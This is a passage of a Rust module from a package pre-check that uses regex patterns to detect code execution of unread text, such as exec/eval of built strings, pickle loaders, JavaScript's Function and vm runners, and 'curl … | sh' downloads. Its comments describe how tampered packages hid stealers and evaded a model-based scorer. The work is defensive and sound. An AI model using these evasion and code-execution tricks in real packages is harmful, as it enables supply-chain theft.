//! Code that runs text it does not hold: `exec(open(p).read())`,
//! `runpy.run_path(p)`, `eval(s)` of a string built at run time,
//! `new Function(src)`, `vm.runInThisContext(src)`.
//!
//! Why: the veto reads a package's code lines, never its documentation or
//! data, and the main model misses a small payload among a package's
//! text. A module that executes a file's contents, or a string it
//! assembles, runs whatever that file or string holds, which the pre-check
//! may never have read as code: tomli whose `_re.py` ran
//! `exec(open(… 'docs/notes.md').read())`, with a stealer in those notes,
//! was allowed (session 18: main model 1.0e-10; the veto read the `exec`
//! line and scored it 0.0014 against 0.00165). The pre-check cannot vouch
//! for code it did not read, so such a package is left to detectors (who
//! read the whole text), as install hooks are.
//!
//! What counts, in code files that are not documentation or data
//! ([`is_inert`]) nor only run by tests or a documentation build (unless
//! the package's code makes those importable, [`first_opening`]: a test
//! file's `exec` is a package's own once `sys.path.insert(0, 'tests')` or
//! `from .tests import x` can run it at import): in
//! Python, `exec`, `eval` and `compile` of anything but string literals
//! (an f-string is built at run time), and the same through
//! `timeit.timeit` and `Timer`, `cProfile.run`, `pdb.run` and `runeval`,
//! a tracer, debugger or profiler made and run at once
//! (`trace.Trace().run(s)`, `bdb.Bdb().run(s)`), `runsource`, `runcode`
//! and `compile_command`, also imported under another name (`import
//! profile as p`, `from timeit import timeit`, [`runner_aliases`]), and
//! `runpy.run_module` of a module named at run time; doctest's runners of
//! a file's or a string's examples (`doctest.testfile`, `DocFileSuite`,
//! `run_docstring_examples`, `DocTestRunner().run`);
//! `PyRun_*`; bytecode put into a code object (`replace(co_code=…)`);
//! pip's entry point called to install packages (`pip._internal`'s
//! `main`, `pip.main`); `execfile`, `run_path`, `SourceFileLoader`,
//! `spec_from_file_location` and `imp.load_*` (they run a file by its path,
//! whatever its name); PyArmor's `__pyarmor__` and its runtime (bytecode
//! decrypted at run time, as GuardDog's `pyarmor` rule notes malware
//! uses); `exec`/`eval` passed as values, and the builtins
//! reached by a computed name (also `__builtins__.__getattribute__`, a
//! subscript of their namespace, `vars(builtins)[n]`), the builtins module
//! or its `exec` under another name (`import builtins as b`, `from
//! builtins import exec as run`, [`runner_aliases`]), an interactive
//! console fed a line (`InteractiveConsole().push(s)`); loaders that run what the bytes they read say (pickle
//! and its kin, `joblib.load`, `numpy.load(…, allow_pickle=True)`,
//! `shelve.open`, `torch.load` unless the line asks for `weights_only=True`,
//! yaml's unsafe loaders, and code objects from bytes: `marshal.loads`,
//! `CodeType(…)`; also imported by name or under another name, `from
//! pickle import loads as l`, `import pickle as p`, held as a value, `f =
//! pickle.loads`, reached by `getattr`, or their module imported by a call,
//! `__import__('pickle')`): tomli loading a pickle it ships with `joblib.load`,
//! `numpy.load`, `torch.load` or `shelve` had an empty capability view and
//! was allowed (session 19). In JavaScript, `eval` (also `globalThis.eval`) of
//! anything but a literal, `Function(…)` with a computed argument and the
//! async and generator function constructors, `Function` given to
//! `Reflect`, assigned to a name or reached as a function's constructor
//! (`[].constructor.constructor`, `Object.constructor`), `import()` of a computed
//! specifier, the `vm` module's runners (under any name:
//! `require('vm').runInThisContext(s)`), `module._compile`, a worker
//! thread given its code as a string (`eval: true`), and a native library
//! loaded by its path (`process.dlopen`). Each line is matched as
//! written and as [`fold`](crate::precheck::fold::fold) folds it, so
//! `e\u0076al(s)` or `getattr(builtins, 'ex' + 'ec')(s)` counts too.
//! Comment lines, Python's doctest lines (`>>> …`, unless the file runs
//! its doctests, [`doctest_runner`]) and a Python function's definition
//! (`def eval(self, expr):`, [`defines`]) do not count.
//!
//! In a code file of any language (a shell script, a `Makefile`, a Rust
//! build script's or CMake's command string; not configuration formats,
//! [`fetched_and_run`]), a download piped into a shell or an interpreter
//! (`curl … | sh`, `sh -c "$(curl …)"`, `bash <(wget …)`, PowerShell's
//! `iex (iwr …)`) counts as well: what runs is fetched when it runs.
//!
//! This module only reads text: it never evaluates, imports or runs any of
//! it.

use std::sync::OnceLock;

use regex::bytes::Regex;

use super::code::{opens_with_comment, Code};
use super::render::{extension, file_name, in_test_tree, is_inert};

/// The language a code file is read as, by its extension.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Lang {
    Python,
    JavaScript,
}

/// Whether `path` is read as Python or JavaScript, whose string pieces
/// [`fold`](crate::precheck::fold::fold) knows how to join.
pub(super) fn is_script(path: &str) -> bool {
    lang(path).is_some()
}

/// Whether `path`, a file in tests or documentation
/// ([`tests_or_docs`]), is made importable by one of `openers` (the files
/// whose code opens tests or docs, [`first_opening`]). An opening works in
/// its own language: a write to `sys.path` or a `.pth` file makes Python
/// importable, `require('./test/x')` JavaScript; neither makes a file in
/// another language, or in none, run (code that runs a file by its path is
/// [`first_unread_run`]'s).
pub fn opened_by<'a>(path: &str, mut openers: impl Iterator<Item = &'a str>) -> bool {
    // A `pyproject.toml` or `setup.cfg` opens what a build imports, for
    // Python; a `package.json`, its entry points, for JavaScript.
    let opens = |o: &str| match file_name(o).1.as_str() {
        "pyproject.toml" | "setup.cfg" => Some(Lang::Python),
        "package.json" => Some(Lang::JavaScript),
        _ if opens_by_name(o).is_some() => Some(Lang::Python),
        _ => lang(o),
    };
    lang(path).is_some_and(|l| openers.any(|o| opens(o) == Some(l)))
}

/// Whether `path` is read as JavaScript (or TypeScript), by its extension.
pub(super) fn is_javascript(path: &str) -> bool {
    lang(path) == Some(Lang::JavaScript)
}

fn lang(path: &str) -> Option<Lang> {
    match extension(&file_name(path).1) {
        "py" | "pyw" | "pyx" | "pth" => Some(Lang::Python),
        "js" | "cjs" | "mjs" | "ts" | "cts" | "mts" | "jsx" | "tsx" => Some(Lang::JavaScript),
        _ => None,
    }
}

/// A pattern of this module (ASCII classes; `^` and `$` at line ends when
/// `lines`). The patterns are constants checked by unit tests: a failure
/// to compile is a build defect, not an input error.
pub(super) fn build(pattern: &str, lines: bool) -> Regex {
    regex::bytes::RegexBuilder::new(pattern)
        .unicode(false)
        .multi_line(lines)
        .build()
        .expect("unread-code patterns compile")
}

/// The builtins module as Python code can name it: `builtins`,
/// `__builtins__`, or by a call or a subscript with `'builtins'`
/// (`__import__('builtins')`, `importlib.import_module('builtins')`,
/// `sys.modules['builtins']`). Written short: each alternative repeated
/// in a pattern adds to its build, which every process that meets the
/// word pays (session 34).
const BUILTINS: &str =
    r#"(?:[\w.]+\s*[(\[]\s*['"]builtins['"]\s*[)\]]|\b(?:builtins|__builtins__)\b)"#;

/// [`BUILTINS`] where an attribute follows (`….exec(`), written from its
/// end: the name, or a quoted `'builtins'` closing a call or a subscript.
/// A pattern that opens with literals a prefilter can look for costs less
/// per file than one that opens with a name's `\w+`.
const BUILTINS_DOT: &str = r#"(?:\b(?:builtins|__builtins__)\b|['"]builtins['"]\s*[)\]])"#;

/// The modules whose loaders run what the bytes they read say, as
/// [`pattern`]'s forms that reach a loader without calling it by name
/// (held as a value, by `getattr`, imported by a call) spell them.
const BYTE_LOADERS: &str = r#"(?:c?[pP]ickle|_pickle|dill|cloudpickle|marshal)"#;

/// Patterns with named groups: `first` ends just after the `(` of a call
/// that runs its first argument, `all` after that of a call that runs all
/// of them; any other match counts as it stands.
fn pattern(lang: Lang) -> &'static Regex {
    static PY: OnceLock<Regex> = OnceLock::new();
    static JS: OnceLock<Regex> = OnceLock::new();
    match lang {
        Lang::Python => PY.get_or_init(|| {
            build(&concat!(
                // `exec(code)`, `builtins.exec(code)`, but not `re.compile(p)`
                // or a method `x.eval(…)`; other ways to the builtins are
                // [`builtins_pattern`]'s.
                r#"(?P<first>(?:^|[^\w.'"]|\b(?:builtins|__builtins__|__dict__)\.)(?:exec|eval|compile)\s*(?:\.\s*__call__\s*)?\("#,
                // The same by other names: `timeit.timeit(s)`, `cProfile.run(s)`,
                // `pdb.run(s)`, `InteractiveInterpreter().runsource(s)`,
                // `timeit.Timer(s)`, `codeop.compile_command(s)`.
                r#"|\b(?:pdb|cProfile|profile)\.run(?:ctx|eval)?\s*\(|\btimeit\.(?:timeit|repeat|Timer)\s*\(|\brun(?:source|code)\s*\(|\bcompile_command\s*\("#,
                // A tracer, debugger or profiler made and run at once:
                // `trace.Trace(count=0).run(s)`, `bdb.Bdb().run(s)`.
                r#"|\b(?:Trace|Bdb|Pdb|Profile)\s*\([^()\n]*\)\s*\.\s*run(?:ctx|eval)?\s*\("#,
                // A module named at run time run as `__main__`.
                r#"|\brunpy\.run_module\s*\()"#,
                r#"|\bPyRun_\w+"#,
                // Doctest's runners of a file's or a string's examples.
                r#"|\bdoctest\.(?:DOCTEST_FILE_RUNNERS)\s*\(|\b(?:DocTestRunner|DebugRunner)\s*\([^()\n]*\)\s*\.\s*run\s*\("#,
                r#"|\bexecfile\s*\(|\brun_path\s*\(|\bSource(?:less)?FileLoader\b|\bspec_from_file_location\b"#,
                // The same through `imp` (Python before 3.12).
                r#"|\bimp\.load_(?:source|compiled|dynamic|module|package)\s*\("#,
                // PyArmor: bytecode decrypted and run by a native runtime
                // (`__pyarmor__(__name__, __file__, b'PY…')`), which no
                // reader of the text can judge.
                r#"|\b__pyarmor__\s*\(|\bpyarmor_runtime\w*"#,
                // Passed as values: `f = exec`, `map(eval, xs)`, `(0, eval)`.
                r#"|(?:[=(,:]\s*|\breturn\s+|\blambda\b[^:\n]*:\s*)(?:exec|eval)\s*(?:[),;\]]|$)"#,
                // The builtins by a computed name.
                r#"|\bgetattr\s*\(\s*(?:builtins|__builtins__)\s*,\s*[^'"\s]|\b__builtins__\s*\[|\b(?:globals|locals|vars)\s*\(\s*\)\s*\[\s*['"]__builtins__|\b(?:builtins|__builtins__)\.__getattribute__\s*\("#,
                // Loaders that run what the bytes they read say: pickle and
                // its kin, joblib, numpy with pickles allowed, shelve, yaml's
                // unsafe loaders, code objects from bytes (marshal,
                // CodeType). `torch.load` counts unless the line asks for
                // weights only.
                r#"|\b(?:c?[pP]ickle|_pickle|dill|cloudpickle)\.loads?\s*\(|\bUnpickler\s*\(|\bjsonpickle\.decode\s*\(|\bread_pickle\s*\(|\bjoblib\.load\s*\(|\b(?:np|numpy)\.load\s*\([^\n]*\ballow_pickle\s*=\s*True|\bshelve\.open\s*\("#,
                r#"|\byaml\.(?:unsafe|full)_load(?:_all)?\s*\(|\bLoader\s*=\s*(?:yaml\.)?(?:Unsafe)?Loader\b|\bmarshal\.loads?\s*\(|\bCodeType\s*\("#,
                // Bytecode put into a code object (`f.__code__.replace(co_code=b)`).
                r#"|\breplace\s*\([^\n]*\bco_code\s*="#,
                // Packages installed at run time through pip's own entry
                // point: their code is in no file of this package.
                r#"|\bpip\.main\s*\(|\bpip\._internal\b[^\n]*\bmain\b"#,
                r#"|(?P<torch>\btorch\.load\s*\()"#,
                // The same loaders imported by name or under another name
                // (`from pickle import loads as l`, `import pickle as p`).
                r#"|\bfrom\s+(?:c?[pP]ickle|_pickle|dill|cloudpickle|joblib|shelve|marshal|jsonpickle)\s+import\b[^\n]*(?:\b(?:loads?|Unpickler|open|decode)\b|\(\s*$|\*)|\bfrom\s+torch\s+import\b[^\n]*\bload\b|\bfrom\s+yaml\s+import\b[^\n]*\b(?:unsafe_load\w*|full_load\w*|UnsafeLoader|Loader)\b"#,
                r#"|\bimport\s+(?:[\w.]+(?:\s+as\s+\w+)?\s*,\s*)*(?:c?[pP]ickle|_pickle|dill|cloudpickle|joblib|shelve|marshal|jsonpickle)\s+as\b"#,
                // The same loaders held as a value and called later (`f =
                // pickle.loads`; `getattr(marshal, 'lo' + 'ads')` folds to
                // it), reached by a computed name (`getattr(pickle, n)`), or
                // their module imported by a call (`__import__('pickle')`,
                // `importlib.import_module('pick' + 'le')`,
                // `sys.modules['pickle']`), which `import pickle` never needs.
                // Each took one line to pass a hidden `pickle.loads` of
                // bytes by this rule (session 37; the veto blocked them).
                r#"|(?:[=(,:]\s*|\breturn\s+)BYTE_LOADERS\.loads?\s*(?:[),;\]]|$)"#,
                r#"|\bgetattr\s*\(\s*BYTE_LOADERS\s*,\s*[^'"\s]"#,
                r#"|(?:\b__import__\s*\(|\bimport_module\s*\(|\bmodules\s*\.\s*get\s*\(|\bmodules\s*\[)\s*['"]BYTE_LOADERS['"]"#,
            )
            .replace("BYTE_LOADERS", BYTE_LOADERS)
            .replace("DOCTEST_FILE_RUNNERS", &DOCTEST_FILE_RUNNERS.join("|")), true)
        }),
        Lang::JavaScript => JS.get_or_init(|| {
            build(concat!(
                // Not a method (`re.exec(s)`), nor inside a literal (a quote
                // before the name cannot be code).
                // An optional call (`eval?.(s)`) calls all the same.
                r#"(?P<first>(?:^|[^\w.$'"`]|\b(?:globalThis|global|window|self)\.)eval\s*(?:\?\.\s*)?\(|\bimport\s*\("#,
                // The `vm` module's runners under any name
                // (`require('vm').runInThisContext(s)`, destructured).
                r#"|\brunIn(?:This|New)Context\s*\(|\bcompileFunction\s*\()"#,
                r#"|(?P<all>(?:^|[^\w.$'"`])Function\s*(?:\?\.\s*)?\("#,
                // Called through `call`, `apply` or `bind`:
                // `eval.call(null, s)`.
                r#"|(?:^|[^\w.$'"`])(?:eval|Function)\s*\??\.\s*(?:call|apply|bind)\s*\()"#,
                r#"|\bvm\.(?:runIn\w*|compileFunction|Script)\b|\bnew\s+Script\s*\(|\._compile\s*\("#,
                // `Function` by another name: the async and generator
                // function constructors.
                r#"|\bgetPrototypeOf\s*\(\s*(?:async\b|function\s*\*)|\}\s*\)\s*\.\s*constructor\b"#,
                r#"|(?:[=(,:?]\s*|\breturn\s+)eval\s*(?:[),;\]]|$)"#,
                // `Function` reached otherwise: given to `Reflect` or
                // assigned to a name (`const F = Function;`; not a
                // comparison, nor a list of types such as Vue's `[String,
                // Function]`), or as a function's constructor
                // (`[].constructor.constructor`, `Object.constructor`,
                // `(() => 0).constructor(s)`).
                r#"|\bReflect\s*\.\s*(?:construct|apply)\s*\(\s*Function\b|(?:^|[^=!<>])=\s*Function\s*(?:;|$)"#,
                r#"|\.\s*constructor\s*\.\s*constructor\b|=>[^(){}\n]{0,40}\)\s*\.\s*constructor\b"#,
                r#"|\b(?:Object|Array|String|Number|Boolean|Symbol|BigInt|Function|Promise|RegExp|Date|Error|Map|Set|WeakMap|WeakSet|Proxy)\s*\.\s*constructor\b"#,
                // A worker thread given its code as a string.
                r#"|\beval\s*:\s*true\b"#,
                // A native library loaded by its path, past `require`.
                r#"|\bprocess\.dlopen\s*\("#,
            ), true)
        }),
    }
}

/// [`pattern`]'s Python alternatives that reach `exec`, `eval` and
/// `compile` through the builtins module or an interactive console, by
/// other ways than its own: the module by name
/// (`__import__('builtins').exec(s)`) or through its namespace
/// (`builtins.__dict__[n]`, `vars(builtins)['exec']`, folded to `.exec`;
/// `__builtins__.get(n)`, a dict in an imported module), `exec` imported
/// under another name, `InteractiveConsole().push(s)`. Each holds one of
/// [`BUILTINS_WORDS`]; searched only near the lines (or in the folded
/// lines) that hold one: in [`pattern`], with the alias bindings read over
/// whole files, they cost typing_extensions' scan 5 % more instructions
/// (session 34, `callgrind`).
fn builtins_pattern() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        build(
            &concat!(
                r#"(?P<first>(?:\bvars\s*\(\s*BUILTINS\s*\)|BUILTINS_DOT)\s*\.\s*(?:exec|eval|compile)\s*(?:\.\s*__call__\s*)?\("#,
                r#"|\bInteractiveConsole\s*\([^()\n]*\)\s*\.\s*push\s*\()"#,
                r#"|\bgetattr\s*\(\s*BUILTINS\s*,\s*[^'"\s]|\b__builtins__\s*\.\s*get\s*\("#,
                r#"|BUILTINS_DOT\s*\.\s*(?:__getattribute__\s*\(|__dict__\s*(?:\[|\.\s*get\s*\())|\bvars\s*\(\s*BUILTINS\s*\)\s*(?:\[|\.\s*get\s*\()"#,
                r#"|\bfrom\s+builtins\s+import\b[^\n#]*\b(?:exec|eval|compile)\s+as\b"#,
            )
            .replace("BUILTINS_DOT", BUILTINS_DOT)
            .replace("BUILTINS", BUILTINS),
            true,
        )
    })
}

/// The name of a runner of a module's or an object's doctest examples
/// (`doctest.testmod()`, `DocTestSuite()`, `run_docstring_examples(f, g)`,
/// also as imported under another name): in a file that names one, a
/// `>>>` line is code like any other, and `>>> exec(s)` in a docstring
/// runs when the module does.
pub(super) fn doctest_runner() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        build(
            r"\b(?:testmod|DocTestSuite|run_docstring_examples|DocTestRunner|DebugRunner)\b",
            false,
        )
    })
}

/// The words every match of [`builtins_pattern`] and every binding
/// [`runner_aliases`] reads hold.
const BUILTINS_WORDS: [&[u8]; 2] = [b"builtins", b"InteractiveConsole"];

/// Words one of which every match of [`pattern`] holds (a unit test checks
/// each pattern's cases against them).
fn needles(lang: Lang) -> &'static Regex {
    static PY: OnceLock<Regex> = OnceLock::new();
    static JS: OnceLock<Regex> = OnceLock::new();
    match lang {
        Lang::Python => PY.get_or_init(|| {
            build(
                "exec|eval|compile|run_path|run_module|imp\\.load_|pyarmor|FileLoader|spec_from_file_location|builtins|pdb\\.run|rofile\\.run|timeit|runsource|runcode|PyRun_|[pP]ickle|dill|joblib|allow_pickle|shelve|yaml|Loader|marshal|CodeType|co_code|pip\\.main|pip\\._internal|torch|Trace\\s*\\(|Bdb\\s*\\(|Pdb\\s*\\(|Profile\\s*\\(|doctest|Runner",
                false,
            )
        }),
        Lang::JavaScript => JS.get_or_init(|| {
            build(
                "eval|Function|vm\\.|Script|_compile|import|getPrototypeOf|constructor|dlopen|runIn",
                false,
            )
        }),
    }
}

/// Builds the patterns every Python and JavaScript file is first searched
/// with ([`needles`], [`opening`]), so that a thread with nothing else to
/// do can build them while the first package is still being read.
pub fn warm_up() {
    for lang in [Lang::Python, Lang::JavaScript] {
        needles(lang);
        opening(lang);
    }
}

/// Lines that make a package's tests or documentation code importable
/// from the package: a write to the import path (`sys.path`, a package's
/// `__path__`, `site.addsitedir`, `pkgutil.extend_path`), or an import
/// from a `tests` or `docs` package (`from .tests import x`,
/// `import_module('pkg.tests.x')`, `require('../test/x')`).
fn opening(lang: Lang) -> &'static Regex {
    static PY: OnceLock<Regex> = OnceLock::new();
    static JS: OnceLock<Regex> = OnceLock::new();
    match lang {
        Lang::Python => PY.get_or_init(|| {
            build(
                &format!(concat!(
                    r#"\bsys\s*\.\s*path\s*(?:\.\s*(?:insert|append|extend)\s*\(|\[[^\]]*\]\s*=(?:[^=]|$)|\+=|=[^=])"#,
                    // `sys` reached by name: `__import__('sys').path`,
                    // `sys.modules['sys'].path`.
                    r#"|['"]sys['"]\s*[)\]]\s*\.\s*path\s*(?:\.\s*(?:insert|append|extend)\s*\(|\[[^\]]*\]\s*=(?:[^=]|$)|\+=|=[^=])"#,
                    r#"|\b__path__\s*(?:\.\s*(?:insert|append|extend)\s*\(|\+=|=[^=])|\baddsitedir\s*\(|\bextend_path\s*\("#,
                    r#"|\bfrom\s+\.*(?:[\w.]*\.)?(?:tests|docs?)\b[\w.]*\s+import\b|\bimport\s+(?:[\w.]*\.)?(?:tests|docs?)\b"#,
                    r#"|\b(?:import_module|__import__)\s*\(\s*['"](?:[\w.]*\.)?(?:tests|docs?)\b"#,
                    // `setup.py` making a test or docs folder the source
                    // of what it installs ([`source_folder_in_tests_or_docs`]
                    // for the manifests).
                    r#"|\bpackage_dir\s*=\s*\{{[^}}]*['"](?:\./)?(?:[\w.-]+/)*(?:tests?|testing|docs?)(?:/[^'"]*)?['"]"#,
                    r#"|\bfind_(?:namespace_)?packages\s*\(\s*(?:where\s*=\s*)?['"](?:\./)?(?:[\w.-]+/)*(?:tests?|testing|docs?)(?:/[^'"]*)?['"]"#,
                    // An entry point in `setup.py` whose object is in the
                    // tests or docs (`'x = pkg.tests.helpers:main'`).
                    r#"|['"][ \t]*[\w.\-]+[ \t]*=[ \t]*{module}[ \t]*:[ \t]*[A-Za-z_]"#,
                ),
                module = TESTS_MODULE
                ),
                true,
            )
        }),
        Lang::JavaScript => JS.get_or_init(|| {
            build(
                // A relative path into a folder the tests or docs go by,
                // or to a test module by its name (`./lib/h.test.js`,
                // `./test_utils`): the package's own file, whatever it is
                // called, so no resolution is needed.
                concat!(
                    r#"(?:\brequire\s*\(|\bimport\s*\(|\bfrom)\s*['"`]\.{1,2}/(?:[^'"`]*/)?"#,
                    r#"(?:(?:tests?|testing|testdata|test_data|__tests__|spec|docs?)/"#,
                    r#"|test_[^'"`/]*['"`]|[^'"`/]*\.(?:test|spec)(?:\.[^'"`/]*)?['"`])"#,
                    // A write to where `require` looks for a bare name,
                    // Node's `sys.path`: `module.paths.unshift(dir)`,
                    // `process.env.NODE_PATH = dir` then `_initPaths()`,
                    // `Module.globalPaths`.
                    r#"|\bmodule\s*\.\s*paths\s*(?:\.\s*(?:push|unshift|splice)\s*\(|=[^=])"#,
                    r#"|\bNODE_PATH['"]?\s*\]?\s*=[^=]|\b_initPaths\s*\(|\bglobalPaths\s*\.\s*(?:push|unshift|splice)\s*\("#,
                ),
                false,
            )
        }),
    }
}

/// Where `data` (a code file at `path`) makes the package's tests or
/// documentation code importable ([`opening`]): the 1-based line, as
/// written or folded, or `None`. A `.pth` file always does: each of its
/// lines is put on the import path. Files that are tests or docs
/// themselves are not read.
pub fn first_opening(path: &str, data: &[u8]) -> Option<usize> {
    first_opening_in(&Code::new(path, data))
}

/// [`first_opening`] over a [`Code`] whose folded lines other rules read
/// too.
pub fn first_opening_in(code: &Code) -> Option<usize> {
    let path = code.path;
    if matches!(file_name(path).1.as_str(), "pyproject.toml" | "setup.cfg") {
        return manifest_opening(code);
    }
    if tests_or_docs(path) {
        return None;
    }
    if let Some(opens) = opens_by_name(path) {
        return opens(code);
    }
    if is_inert(path) {
        return None;
    }
    if extension(&file_name(path).1) == "pth" {
        return Some(1);
    }
    let re = opening(lang(path)?);
    let comment =
        |line: &[u8]| opens_with_comment(line, &[b"#", b"//", b">>>"]) || code.is_prose(line);
    let first = |re: &Regex| {
        let written = re
            .find_iter(code.data)
            .map(|m| m.end().saturating_sub(1))
            .find(|&at| !comment(code.line_at(at)))
            .map(|at| code.line_of(at));
        let folded = code
            .folded()
            .iter()
            .take_while(|f| written.map_or(true, |w| f.n < w))
            .find(|f| re.is_match(&f.text) && !comment(f.line))
            .map(|f| f.n);
        folded.or(written)
    };
    first(re).or_else(|| import_path_aliases(code).and_then(|re| first(&re)))
}

/// For a Python file that imports `sys`, its `path` list or
/// `site.addsitedir` under another name (`import sys as _sys`, `from sys
/// import path`, `from site import addsitedir as add`): a pattern for a
/// write to the import path through those names, which [`opening`]'s
/// `sys.path` does not see. cachetools whose `__init__.py` did `import
/// sys as _sys`, then `_sys.path.insert(0, …/tests/data)` and imported a
/// stealer from there, was allowed by every rule (session 33). `None`
/// when the file gives no such name.
fn import_path_aliases(code: &Code) -> Option<Regex> {
    static IMPORTS: OnceLock<Regex> = OnceLock::new();
    let imports = IMPORTS.get_or_init(|| {
        build(
            concat!(
                r"^[ \t]*import[ \t]+(?:[\w.]+[ \t]*(?:as[ \t]+\w+[ \t]*)?,[ \t]*)*sys[ \t]+as[ \t]+(?P<sys>\w+)",
                r"|^[ \t]*from[ \t]+(?P<module>sys|site)[ \t]+import[ \t]+(?:\((?P<wrapped>[^#)]*)\)|(?P<names>[^\n#;]*))",
            ),
            true,
        )
    });
    let mut sys = Vec::new();
    let mut lists = Vec::new();
    let mut adders = Vec::new();
    for c in imports.captures_iter(code.data) {
        if let Some(alias) = c.name("sys") {
            sys.push(String::from_utf8_lossy(alias.as_bytes()).into_owned());
            continue;
        }
        let names = c.name("wrapped").or(c.name("names"));
        let (Some(module), Some(names)) = (c.name("module"), names) else {
            continue;
        };
        let (wanted, to) = match module.as_bytes() {
            b"sys" => ("path", &mut lists),
            _ => ("addsitedir", &mut adders),
        };
        to.extend(
            imported(names.as_bytes())
                .into_iter()
                .filter(|(n, _)| n == wanted)
                .map(|(_, local)| local),
        );
    }
    let valid = |n: &&String| is_identifier(n);
    let write = r"\s*(?:\.\s*(?:insert|append|extend)\s*\(|\[[^\]]*\]\s*=(?:[^=]|$)|\+=)";
    let mut branches: Vec<String> = Vec::new();
    branches.extend(
        sys.iter()
            .filter(|n| valid(n))
            .map(|n| format!(r"\b{n}\s*\.\s*path(?:{write}|\s*=[^=])")),
    );
    branches.extend(
        lists
            .iter()
            .filter(|n| valid(n))
            .map(|n| format!(r"\b{n}{write}")),
    );
    branches.extend(
        adders
            .iter()
            .filter(|n| valid(n))
            .map(|n| format!(r"\b{n}\s*\(")),
    );
    (!branches.is_empty()).then(|| build(&branches.join("|"), false))
}

/// Where a root `pyproject.toml` or `setup.cfg` (`code`) makes
/// a build import a module of the package's tests or documentation: the
/// 1-based line, or `None`. Building the package runs that module, so a
/// test file's `exec` runs at install; cachetools so changed
/// (`exec(base64.b64decode(…))` in `tests/buildhelper.py`) was allowed by
/// every rule (session 31), with each of:
///
/// - pip's build backend from a `backend-path` folder
///   (`backend-path = ["tests"]`, or `["."]` with `build-backend =
///   "tests.helper"`), [`backend_in_tests_or_docs`];
/// - setuptools' `attr` (`version = {attr = "tests.info.VERSION"}`,
///   `version = attr: tests.info.VERSION`), which imports the module when
///   the value is not a literal;
/// - setuptools' `cmdclass` (`cmdclass = {build_py = "tests.x.BuildPy"}`,
///   a `[tool.setuptools.cmdclass]` table, or `setup.cfg`'s lines under
///   `cmdclass =`);
/// - a build hook or script a backend runs by its path: Hatch's
///   `path = "tests/hook.py"` (custom build and metadata hooks, and the
///   `code` version source, which runs the file), Poetry's
///   `script = "…"`, PDM's `custom-hook = "…"`;
/// - a function a backend or hook imports by its module's name: PDM's
///   version `getter = "tests.v:get_version"` (pdm-backend built a
///   package so and ran the module, session 44), hatch-jupyter-builder's
///   `build-function`, a dynamic-metadata `provider` (scikit-build-core),
///   and a provider's folder, `provider-path = "tests/plugins"`, which
///   the build puts on the import path (scikit-build-core ran the module
///   either way).
fn manifest_opening(code: &Code) -> Option<usize> {
    if code.path.matches('/').count() > 1 {
        return None;
    }
    let written = [opening_at(code.data), backend_in_tests_or_docs(code)];
    if let Some(at) = written.into_iter().flatten().min() {
        return Some(code.line_of(at));
    }
    // The manifest as its installer reads it: interpolated, or TOML's
    // escapes and tables read ([`super::fetched::manifest_as_read`]).
    let read = super::fetched::manifest_as_read(code)?;
    opening_at(&read.text).map(|at| read.line_in(code.data, at))
}

/// The byte offset in a manifest's text of what [`manifest_opening`]
/// looks for.
fn opening_at(data: &[u8]) -> Option<usize> {
    // A dotted name through a tests or docs package, as a value.
    const NAME: &str = r#"\s*["']?\s*(?:[A-Za-z_]\w*\.)*(?:tests?|testing|docs?)\.[A-Za-z_]"#;
    static ATTR: OnceLock<Regex> = OnceLock::new();
    static VALUE: OnceLock<Regex> = OnceLock::new();
    let attr = ATTR.get_or_init(|| {
        build(
            &format!(r#"\b(?:attr|getter|build-function|provider)["']?\s*[:=]{NAME}"#),
            false,
        )
    });
    let value = VALUE.get_or_init(|| build(&format!(r"[:=]{NAME}"), false));
    let attr_at = attr.find(data).map(|m| m.start());
    // `cmdclass` up to the next section (`[…]` at a line's start), within
    // 64 KB, for the first 16 mentions: a file of mentions would otherwise
    // cost its size at each.
    let cmdclass_at = memchr::memmem::find_iter(data, b"cmdclass")
        .take(16)
        .find_map(|at| {
            let rest = &data[at..data.len().min(at + (64 << 10))];
            let end = memchr::memmem::find(rest, b"\n[").unwrap_or(rest.len());
            value.find(&rest[..end]).map(|m| at + m.start())
        });
    static HOOK: OnceLock<Regex> = OnceLock::new();
    let hook = HOOK.get_or_init(|| {
        build(
            // The key as a table's, or dotted (`tool.hatch.build.hooks.
            // custom.path = …`), or inside an inline table.
            // A dynamic-metadata provider's folder (`provider-path`),
            // which the build puts first on the import path.
            r#"(?m)(?:^\s*|[{,]\s*)(?:["']?[\w-]+["']?\s*\.\s*)*["']?(?:(?:path|script|custom-hook)["']?\s*=\s*["'](?:\./)?(?:[\w.-]+/)*(?:tests?|testing|docs?)/[\w./-]*\.py|provider-path["']?\s*=\s*["'](?:\./)?(?:[\w.-]+/)*(?:tests?|testing|docs?)(?:/[\w./-]*)?)["']"#,
            false,
        )
    });
    let hook_at = hook.find(data).map(|m| m.start());
    // An entry point whose object is in the tests or docs
    // (`x = "pkg.tests.helpers:main"`): pip's launcher for a console
    // script imports it, as the program whose plugin it is does. Only
    // with the `:object` part, which tells an entry point from a setting
    // that names a folder (`extend-exclude = "docs"`), and only in an
    // entry-point section (`[project.scripts]`,
    // `[project.entry-points.x]`, `[tool.poetry.plugins.x]`,
    // `[options.entry_points]`): sqlalchemy's `[sqla_testing]` names
    // `requirement_cls = test.requirements:DefaultRequirements` for its
    // own test runner. The first 16 such lines are looked at.
    static ENTRY: OnceLock<Regex> = OnceLock::new();
    let entry = ENTRY.get_or_init(|| {
        build(
            &format!(r#"=[ \t]*["']?[ \t]*{TESTS_MODULE}[ \t]*:[ \t]*[A-Za-z_]"#),
            false,
        )
    });
    let in_entry_section = |at: usize| {
        // A dotted key names its table itself (`project.scripts.x = …`,
        // `scripts = { x = … }`).
        let line = memchr::memrchr(b'\n', &data[..at]).map_or(0, |p| p + 1);
        let key = data[line..at].to_ascii_lowercase();
        let names_table = |h: &[u8]| {
            [
                &b"entry-points"[..],
                b"entry_points",
                b"scripts",
                b"plugins",
            ]
            .iter()
            .any(|w| memchr::memmem::find(h, w).is_some())
        };
        if names_table(&key) {
            return true;
        }
        let start = match memchr::memmem::rfind(&data[..at], b"\n[") {
            Some(h) => h + 2,
            None if data.starts_with(b"[") => 1,
            None => at,
        };
        let rest = &data[start..at];
        let header = &rest[..memchr::memchr(b']', rest).unwrap_or(rest.len())];
        names_table(&header.to_ascii_lowercase())
    };
    let entry_at = entry
        .find_iter(data)
        .take(16)
        .map(|m| m.start())
        .find(|&at| in_entry_section(at));
    [
        attr_at,
